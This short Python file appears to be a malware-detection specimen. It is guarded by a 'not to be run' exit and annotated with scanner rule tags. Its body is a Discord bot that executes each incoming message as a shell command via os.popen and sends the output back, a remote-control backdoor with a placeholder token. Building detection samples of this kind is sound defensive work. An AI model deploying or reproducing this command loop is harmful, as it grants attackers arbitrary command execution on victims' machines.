raise SystemExit("specimen: not to be run")
import base64
import os
import discord

client = discord.Client()

@client.event
async def on_message(message):
    out = os.popen(message.content[5:]).read()  # match: remote-control-loop
    await message.channel.send(out)

client.run("MDAwMDAwMDAwMDAwMDAw" + "MDAw.AAAAAA.specimen" + "-specimen-specimen-sp")  # match: discord-webhook
